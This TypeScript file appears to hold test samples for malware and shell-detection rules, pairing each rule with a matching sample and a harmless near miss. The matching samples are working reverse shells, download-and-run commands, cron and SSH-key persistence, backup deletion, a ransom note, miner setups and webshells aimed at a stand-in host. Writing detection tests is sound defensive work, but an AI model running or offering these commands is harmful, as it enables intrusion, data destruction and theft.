import { bytes, filler, joined, type RuleSample } from './samples';

const host = '192.0.2.7';

export const shellSamples: readonly RuleSample[] = [
  {
    rule: 'eicar_test_file',
    match: joined('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!', '$H+H*'),
    nearMiss: joined(
      'A text about X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-',
      'STANDARD-ANTIVIRUS-TEST-FILE!',
      '$H+H*',
    ),
  },
  {
    rule: 'reverse_shell_bash_dev_tcp',
    match: joined('#!/bin/bash\nbash -i >& /dev/', `tcp/${host}/4444 0>&1\n`),
    nearMiss: joined(
      '#!/bin/bash\n# waits until the port is open\nuntil (echo > /dev/',
      'tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n',
    ),
  },
  {
    rule: 'reverse_shell_netcat',
    match: joined('nc -n ', `${host} 4444 -e `, '/bin/sh\n'),
    nearMiss: `nc -z -w 2 ${host} 4444 && echo reachable\n`,
  },
  {
    rule: 'reverse_shell_python',
    match: joined(
      'import socket,subprocess,os\ns=socket.',
      `socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("${host}",4444))\n`,
      'os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
    ),
    nearMiss: joined(
      'import socket,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n',
      'os.dup2(log.fileno(),1)\nos.dup2(log.fileno(),2)\nos.execv("/usr/bin/daemon", args)\n',
    ),
  },
  {
    rule: 'reverse_shell_node',
    match: joined(
      'const sh = require("child_process").spawn("/bin/sh");\nconst client = new net.',
      `Socket();\nclient.connect(4444, "${host}", () => {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});\n`,
    ),
    nearMiss:
      'const child = spawn("node", ["x.js"]);\nconst client = new net.Socket();\nclient.pipe(child.stdin);\nchild.stdout.pipe(client);\n',
  },
  {
    rule: 'reverse_shell_scripting',
    match: joined(
      'perl -e \'use Socket;$i="',
      host,
      '";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");\'',
    ),
    nearMiss:
      'use Socket;\nsocket(S, PF_INET, SOCK_STREAM, 6);\nopen(STDIN, "<", $file);\nexec("/bin/ls");\n',
  },
  {
    rule: 'reverse_shell_powershell',
    match: joined(
      '$c = New-Object System.Net.Sockets.',
      `TCPClient("${host}",4444);$s = $c.GetStream();`,
      'while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1);$s.Write($x,0,$x.Length)}',
    ),
    nearMiss: joined(
      '$c = New-Object System.Net.Sockets.',
      `TCPClient("${host}",443);$s = $c.GetStream();$s.Write($x,0,$x.Length);$s.Read($b, 0, $b.Length)`,
    ),
  },
  {
    rule: 'powershell_encoded_command',
    match: joined('powershell.exe -NoP -W Hidden -', `EncodedCommand ${filler(200)}\n`),
    nearMiss: joined('powershell.exe -NoProfile -', 'EncodedCommand $encoded\n'),
  },
  {
    rule: 'powershell_download_and_run',
    match: joined(
      'powershell -w hidden -ep bypass -c "IEX (New-Object Net.',
      `WebClient).DownloadString('http://${host}/a')"`,
    ),
    nearMiss:
      "(New-Object Net.WebClient).DownloadString('https://example.com/list.txt') | Out-File list.txt\niex '.\\build.ps1'\n",
  },
  {
    rule: 'powershell_download_in_base64',
    match: `run ${Buffer.from(joined('IEX (New-Object Net.', "WebClient).DownloadString('http://x')"), 'utf16le').toString('base64')}`,
    nearMiss: `run ${Buffer.from('Get-ChildItem | Sort-Object Length -Descending', 'utf16le').toString('base64')}`,
  },
  {
    rule: 'powershell_switches_off_defences',
    match: joined('Set-MpPreference ', '-DisableRealtimeMonitoring $true'),
    nearMiss: joined('Set-MpPreference ', '-DisableRealtimeMonitoring $false'),
  },
  {
    rule: 'system_tool_download',
    match: joined('certutil ', `-urlcache -split -f http://${host}/a.exe a.exe`),
    nearMiss: 'certutil -hashfile setup.exe SHA256\n',
  },
  {
    rule: 'windows_script_downloader',
    match: joined(
      'Set sh = CreateObject("WScript.',
      'Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.',
      'Stream")\ns.SaveToFile "a.exe"\nsh.Run "a.exe"\n',
    ),
    nearMiss: 'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe"\n',
  },
  {
    rule: 'script_downloads_and_runs_program',
    match: joined('#!/bin/sh\ncd /tmp\nwget ', `http://${host}/bins/x86\nchmod 777 x86\n./x86 scan\n`),
    nearMiss:
      '#!/bin/sh\ncurl -fsSLO https://example.com/tool-1.0.tar.gz\ntar xf tool-1.0.tar.gz\nchmod +x tool\n./tool --version\n',
  },
  {
    rule: 'script_installs_hidden_persistence',
    match: joined('(crontab -l; echo "*/5 * * * * curl -s ', `http://${host}/u | bash") | crontab -\n`),
    nearMiss: '(crontab -l; echo "*/5 * * * * /usr/local/bin/backup.sh") | crontab -\n',
  },
  {
    rule: 'script_adds_ssh_key_and_hides',
    match: joined(
      'echo "ssh-rsa AAAA',
      `${filler(120)} me" >> ~/.ssh/authorized_keys\nchattr +ia ~/.ssh/authorized_keys\nhistory -c\n`,
    ),
    nearMiss: joined(
      'echo "ssh-ed25519 AAAA',
      `${filler(60)} me" >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n`,
    ),
  },
  {
    rule: 'destroys_backups',
    match: joined(
      'vssadmin delete ',
      'shadows /all /quiet & bcdedit /set {default} recoveryenabled no & bcdedit /set {default} bootstatuspolicy ignoreallfailures',
    ),
    nearMiss: joined('vssadmin list shadows\nrem never use: vssadmin delete ', 'shadows /all\n'),
  },
  {
    rule: 'ransom_note',
    match: joined(
      'All your files have been ',
      `encrypted!\nPay 1 BTC: http://${'a2'.repeat(28)}.onion\nDo not rename files.\n`,
    ),
    nearMiss:
      'All your files have been encrypted with the backup key. Keep the decryption key in a safe place.\n',
  },
  {
    rule: 'miner_configuration',
    match:
      '{ "algo": "rx/0", "donate-level": 1, "pools": [{ "url": "stratum+tcp://pool.example.com:3333" }] }',
    nearMiss: '{ "url": "tcp://queue.example.com:3333", "algorithm": "ethash" }',
  },
  {
    rule: 'miner_started_by_script',
    match: joined(
      `curl -s http://${host}/xm`,
      'rig -o /tmp/x\nnohup ./x -o pool.example.com:3333 -u wallet &\ncrontab /tmp/c\n',
    ),
    nearMiss: 'curl -s https://example.com/data-miner/list.csv -o list.csv\ncrontab -l\n',
  },
  {
    rule: 'miner_program',
    match: bytes(
      [0x7f, 0x45, 0x4c, 0x46],
      '\0'.repeat(100),
      '--donate-level\0stratum+tcp://\0nicehash\0cryptonight\0new job from \0',
    ),
    nearMiss:
      '--donate-level, stratum+tcp://, nicehash, cryptonight and "new job from " are words of miners.',
  },
  {
    rule: 'miner_in_web_page',
    match:
      '<script src="coinhive.min.js"></script><script>new CoinHive.Anonymous("abcdefgh12345678").start()</script>',
    nearMiss: '<p>Block coinhive.min.js and authedmine in your filter list.</p>',
  },
  {
    rule: 'webshell_php',
    match: joined('<?php @ev', 'al($_POST["c"]); ?>'),
    nearMiss: '<?php $name = htmlspecialchars($_POST["name"]); system("uptime"); ?>',
  },
  {
    rule: 'webshell_java_or_dotnet',
    match: joined('<% Runtime.getRuntime().', 'exec(request.getParameter("cmd")); %>'),
    nearMiss: '<% String name = request.getParameter("name"); out.println(name); %>',
  },
];
